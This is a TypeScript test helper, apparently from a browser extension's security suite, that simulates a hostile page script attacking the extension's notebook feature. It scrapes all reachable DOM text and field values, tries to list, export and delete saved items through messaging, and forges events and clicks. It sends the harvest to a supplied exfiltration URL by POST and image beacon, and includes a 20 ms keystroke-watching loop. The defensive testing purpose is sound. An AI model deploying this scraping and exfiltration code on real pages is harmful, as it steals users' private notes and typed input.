// What a hostile script served by a written-answer page (or another extension's content script,
// which sees the same DOM) would do to the reader's notebook (issue 20). Runs in the page's own
// world through page.evaluate, with exactly a page script's powers; puppeteer serialises each
// function, so each is self-contained.

export interface ProbeResult {
  /** Every string the script could reach: text, attribute values, field values, in the document, every open shadow root and every frame it could open. */
  seen: string[];
  /** Iframes it found, and how many of them refused it their document. */
  frames: number;
  framesRefused: number;
  /** What the extension messaging it could find answered (or why there was none). */
  messaging: string[];
  /** Buttons it clicked in our shadow root, events it dispatched, messages it posted. */
  clicked: string[];
  dispatched: number;
  posted: number;
}

/** Reads everything reachable, then tries every way in: clicks, events, postMessage, runtime messages, its own frame. */
export async function hostileProbe(exfilUrl: string): Promise<ProbeResult> {
  const result: ProbeResult = { seen: [], frames: 0, framesRefused: 0, messaging: [], clicked: [], dispatched: 0, posted: 0 };
  const frameUrls: string[] = [];
  const collect = (node: Node): void => {
    if (node.nodeType === Node.TEXT_NODE) result.seen.push(node.nodeValue ?? '');
    if (node instanceof Element) {
      for (const attr of Array.from(node.attributes)) result.seen.push(attr.value);
      if (node instanceof HTMLInputElement || node instanceof HTMLTextAreaElement || node instanceof HTMLSelectElement) result.seen.push(node.value);
      if (node.shadowRoot) collect(node.shadowRoot);
      if (node instanceof HTMLIFrameElement) {
        result.frames += 1;
        frameUrls.push(node.src);
        try {
          const doc = node.contentDocument ?? node.contentWindow?.document;
          if (doc?.documentElement) collect(doc.documentElement);
          else result.framesRefused += 1;
        } catch {
          result.framesRefused += 1;
        }
      }
    }
    for (const child of Array.from(node.childNodes)) collect(child);
  };
  const pause = (ms: number) => new Promise((r) => setTimeout(r, ms));
  collect(document.documentElement);

  const root = document.querySelector('parliament-lens')?.shadowRoot;
  const frameSrc = frameUrls.find((u) => /-extension:\/\//.test(u)) ?? '';
  const extensionId = /^[a-z]+-extension:\/\/([^/]+)\//.exec(frameSrc)?.[1] ?? '';
  const frameBase = frameSrc.split('#')[0] ?? '';

  // Runtime messaging from the page: Chrome exposes chrome.runtime to pages only for extensions
  // that list them in externally_connectable; Firefox never does.
  // The question the page shows, as the frame's URL names it (the page knows it anyway).
  let questionId = '';
  try {
    questionId = (JSON.parse(decodeURIComponent(frameSrc.split('#')[1] ?? '')) as { id: string }).id;
  } catch {
    // no frame of ours: nothing to name
  }
  const asks = [
    { type: 'saved.list', payload: { query: '', offset: 0, limit: 100 } },
    { type: 'saved.export', payload: { afterId: null, limit: 100 } },
    { type: 'saved.delete', payload: { id: questionId } },
  ];
  const w = window as unknown as { chrome?: { runtime?: { sendMessage?: (...args: unknown[]) => Promise<unknown> } }; browser?: unknown };
  const send = w.chrome?.runtime?.sendMessage;
  if (!send) result.messaging.push(`no runtime messaging in the page (chrome.runtime: ${typeof w.chrome?.runtime}, browser: ${typeof w.browser})`);
  else {
    for (const message of asks) {
      try {
        result.messaging.push(JSON.stringify(await Promise.race([send(extensionId, message), pause(2_000).then(() => 'no answer')])));
      } catch (err) {
        result.messaging.push(`refused: ${String(err)}`);
      }
    }
  }

  // Messages posted to the frame, in our protocol's shape and in others a frame might listen for.
  const frame = root?.querySelector('iframe');
  const forged = { id: questionId, note: 'OVERWRITTEN BY THE PAGE', tags: ['pwned'] };
  for (const message of [...asks, { type: 'saved.put', payload: { item: forged } }, { note: forged.note }, 'save', 'remove']) {
    frame?.contentWindow?.postMessage(message, '*');
    result.posted += 1;
  }

  // Its own copy of the frame, for a question the reader saved: can it read that one?
  if (frameBase) {
    const own = document.createElement('iframe');
    own.src = `${frameBase}${new URL(frameSrc).hash}`;
    document.body.append(own);
    await new Promise((r) => { own.onload = r; setTimeout(r, 3_000); });
    await pause(500);
    collect(own);
    own.remove();
  }

  // Synthetic events on everything of ours it can reach: keys, input, submit, then every button.
  for (const target of [frame, root?.host, ...(root ? Array.from(root.querySelectorAll('form, textarea, input')) : [])]) {
    if (!target) continue;
    for (const event of [new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }), new InputEvent('input', { bubbles: true, data: forged.note }), new Event('submit', { bubbles: true, cancelable: true }), new CustomEvent('parliament-lens:save', { detail: forged, bubbles: true, composed: true })]) {
      target.dispatchEvent(event);
      result.dispatched += 1;
    }
  }
  frame?.focus();
  const buttons = root ? Array.from(root.querySelectorAll('button')).filter((b) => !/close/i.test(b.getAttribute('aria-label') ?? '')) : [];
  for (const button of buttons) {
    result.clicked.push(button.textContent ?? '');
    button.click();
    button.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
    await pause(100);
  }
  await pause(1_000);
  collect(document.documentElement);

  // And it sends away whatever it found, as the probe's script did.
  await fetch(exfilUrl, { method: 'POST', mode: 'no-cors', body: JSON.stringify(result.seen) }).catch(() => undefined);
  const beacon = new Image();
  beacon.src = `${exfilUrl}?d=${encodeURIComponent(result.seen.join('\n').slice(0, 4_000))}`;
  return result;
}

/** Starts collecting everything in our shadow root every 20 ms: a page script watching while the reader types. */
export function startWatching(): void {
  const w = window as unknown as { lensSeen?: Set<string> };
  w.lensSeen = new Set();
  const grab = (node: Node): void => {
    if (node.nodeType === Node.TEXT_NODE) w.lensSeen!.add(node.nodeValue ?? '');
    if (node instanceof Element) {
      for (const attr of Array.from(node.attributes)) w.lensSeen!.add(attr.value);
      if (node instanceof HTMLInputElement || node instanceof HTMLTextAreaElement) w.lensSeen!.add(node.value);
      if (node.shadowRoot) grab(node.shadowRoot);
    }
    for (const child of Array.from(node.childNodes)) grab(child);
  };
  setInterval(() => grab(document.documentElement), 20);
}

export function stopWatching(): string[] {
  return [...((window as unknown as { lensSeen?: Set<string> }).lensSeen ?? [])];
}
